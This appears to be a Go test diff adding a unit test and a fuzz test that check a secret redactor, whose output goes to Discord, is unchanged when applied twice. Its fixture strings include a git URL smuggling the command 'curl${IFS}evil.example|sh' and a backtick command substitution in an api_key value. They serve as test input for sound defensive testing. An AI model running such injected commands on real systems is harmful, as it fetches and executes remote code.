@@ -131,3 +131,34 @@ func BenchmarkRedact2000WithSecret(b *testing.B) {
 		String(msg)
 	}
 }
+
+// Redacting redacted text changes nothing: the poster redacts every
+// message again on its way to Discord, so text measured (and chunked)
+// after redaction must not grow past Discord's limit there.
+func TestRedactTwiceIsANoOp(t *testing.T) {
+	var all []string
+	for _, c := range secrets {
+		all = append(all, strings.Replace(c.text, "%s", c.secret, 1))
+	}
+	texts := append(all, strings.Join(all, "\n"), strings.Join(all, " "), strings.Repeat("password=hunter2\n", 50),
+		`api_key="`+"`./run-me`"+`"`, "git clone https://x:;curl${IFS}evil.example|sh;@github.com/o/r")
+	for _, s := range texts {
+		once := String(s)
+		if twice := String(once); twice != once {
+			t.Errorf("redacting again changed it:\n  once:  %q\n  twice: %q", once, twice)
+		}
+	}
+}
+
+func FuzzRedactTwiceIsANoOp(f *testing.F) {
+	for _, c := range secrets {
+		f.Add(strings.Replace(c.text, "%s", c.secret, 1))
+	}
+	f.Add("password=hunter2 token: 'abcdefgh' https://u:pass@h/ x")
+	f.Fuzz(func(t *testing.T, s string) {
+		once := String(s)
+		if twice := String(once); twice != once {
+			t.Errorf("redacting again changed it:\n  in:    %q\n  once:  %q\n  twice: %q", s, once, twice)
+		}
+	})
+}
